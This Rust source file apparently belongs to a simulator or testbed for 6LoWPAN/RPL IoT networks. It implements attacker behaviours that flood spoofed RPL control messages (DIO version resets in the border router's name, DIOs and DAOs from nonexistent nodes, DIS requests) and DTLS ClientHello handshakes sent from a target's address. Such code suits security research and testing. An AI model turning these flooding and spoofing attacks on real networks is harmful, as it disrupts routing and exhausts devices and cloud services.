//! Attackers that send much of a kind, in the names of nodes that there are not.

use sixlock_base::{Eui64, lollipop};
use sixlock_ipv6::rpl::{ALL_RPL_NODES, Dao, Dio, Message, ModeOfOperation, Prefix, RplOption, Transit};
use sixlock_node::COAPS_PORT;

use crate::network::CLOUD;

use super::behaviour::{AttackerContext, Behaviour, Sending};
use super::dodag::Dodag;
use super::packets::{client_hello, control, link_local, udp};

/// Each DIO is in the border router's name, and begins another version of its DODAG: who hears it, and has the border router for a
/// neighbour, joins anew, and so do all behind.
#[derive(Default)]
pub(super) struct Hellos {
    dodag: Dodag,
    versions: u8,
}

impl Behaviour for Hellos {
    fn act(&mut self, context: &mut AttackerContext) -> Vec<Sending> {
        let (dio, configuration) = self.dodag.dio(context);
        self.versions = self.versions.wrapping_add(1);
        let version =
            (0..self.versions % lollipop::WINDOW).fold(dio.version, |version, _| lollipop::next(version));
        let dio = Dio { version, ..dio };
        let router = Eui64::of_node(0);
        let ends = (link_local(router), ALL_RPL_NODES);
        let packet = control(ends, &Message::Dio(dio), &[RplOption::Configuration(configuration)]);
        context.frames(router, None, &packet)
    }

    fn hear(&mut self, context: &mut AttackerContext, _: usize, frame: &[u8]) -> Vec<Sending> {
        self.dodag.hear(context, frame);
        Vec::new()
    }
}

/// Each DIO tells of another router next to the root, which is then looked for.
#[derive(Default)]
pub(super) struct Dios {
    dodag: Dodag,
}

impl Behaviour for Dios {
    fn act(&mut self, context: &mut AttackerContext) -> Vec<Sending> {
        let (dio, configuration) = self.dodag.dio(context);
        let nobody = context.nobody();
        let ends = (link_local(nobody), ALL_RPL_NODES);
        let packet = control(ends, &Message::Dio(dio), &[RplOption::Configuration(configuration)]);
        context.frames(nobody, None, &packet)
    }

    fn hear(&mut self, context: &mut AttackerContext, _: usize, frame: &[u8]) -> Vec<Sending> {
        self.dodag.hear(context, frame);
        Vec::new()
    }
}

/// Each DAO asks for a route to another node: of the root, or of the router next to the attacker, which tells it on.
#[derive(Default)]
pub(super) struct Daos {
    dodag: Dodag,
}

impl Behaviour for Daos {
    fn act(&mut self, context: &mut AttackerContext) -> Vec<Sending> {
        let (dio, configuration) = self.dodag.dio(context);
        let (nobody, next) = (context.nobody(), context.next);
        let is_stored = dio.mode == ModeOfOperation::STORING;
        let ends = match is_stored {
            true => (link_local(nobody), link_local(next)),
            false => (context.global(nobody), dio.dodag),
        };
        let dao = Dao { instance: dio.instance, wants_ack: true, sequence: context.sequence, dodag: None };
        let transit = Transit {
            external: false,
            invalidate: false,
            path_control: 0x80,
            path_sequence: lollipop::FIRST,
            path_lifetime: configuration.default_lifetime,
            parent: (!is_stored).then(|| context.global(next)),
        };
        let target = RplOption::Target { prefix: Prefix::host(context.global(nobody)), flags: 0 };
        let packet = control(ends, &Message::Dao(dao), &[target, RplOption::Transit(transit)]);
        context.frames(nobody, Some(next), &packet)
    }

    fn hear(&mut self, context: &mut AttackerContext, _: usize, frame: &[u8]) -> Vec<Sending> {
        self.dodag.hear(context, frame);
        Vec::new()
    }
}

/// Each DIS asks the station next to the attacker for an answer to a node that acknowledges nothing.
pub(super) struct Diss;

impl Behaviour for Diss {
    fn act(&mut self, context: &mut AttackerContext) -> Vec<Sending> {
        let (nobody, next) = (context.nobody(), context.next);
        let packet = control((link_local(nobody), link_local(next)), &Message::Dis, &[]);
        context.frames(nobody, Some(next), &packet)
    }
}

/// Each ClientHello begins a handshake with the cloud, from another port of the target's address.
pub(super) struct Handshakes;

impl Behaviour for Handshakes {
    fn act(&mut self, context: &mut AttackerContext) -> Vec<Sending> {
        let hello = client_hello(&mut context.stream);
        let ends = (context.global(context.target), CLOUD);
        let packet = udp(&mut context.stream, ends, COAPS_PORT, &hello);
        context.frames(context.own, Some(context.next), &packet)
    }
}
